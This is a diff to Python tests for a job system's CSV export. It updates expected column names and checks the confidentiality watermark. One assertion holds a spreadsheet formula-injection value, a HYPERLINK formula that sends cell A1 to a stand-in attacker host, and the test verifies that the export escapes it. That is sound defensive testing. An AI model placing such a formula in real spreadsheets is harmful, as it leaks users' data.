@@ -69,7 +69,7 @@ async def test_it_streams_the_csv_export_with_a_watermark_and_records_it(client,
     assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
     assert "jobs-2026-confidential.csv" in response.headers["content-disposition"]
     lines = response.content.decode("utf-8-sig").splitlines()
-    assert lines[-1].startswith("Confidential. Exported by Test manager")
+    assert next(csv.reader([lines[-1]]))[0].startswith("Confidential. Exported by Test manager")
     rows = list(csv.DictReader(io.StringIO("\n".join(lines[:-1]))))
     assert [row["Job number"] for row in rows] == [first.number, second.number]
     assert rows[0]["State"] == "Completed" and rows[0]["Device model"] == "XR-200"
@@ -118,12 +118,16 @@ async def test_it_writes_a_csv_a_spreadsheet_opens_safely_with_local_times_and_l
     text = raw.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
     header, row = rows[0], rows[1]
-    assert header[:3] == ["Job number", "Type", "State"] and "Requested (Asia/Shanghai)" in header
+    assert header[:3] == ["Job number", "Job type", "State"] and "Request time (Asia/Shanghai)" in header
     values = dict(zip(header, row, strict=True))
     assert values["Device model"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Help")'
-    assert values["Type"] == "Onsite repair" and values["Zone"] == "In service area" and values["Paid"] == "No"
+    assert (
+        values["Job type"] == "Onsite repair"
+        and values["Service zone"] == "In service area"
+        and values["Paid service"] == "No"
+    )
     local = job.requested_at.astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M")
-    assert values["Requested (Asia/Shanghai)"] == local
+    assert values["Request time (Asia/Shanghai)"] == local
     assert rows[-1][0].startswith("Confidential.")
 
 
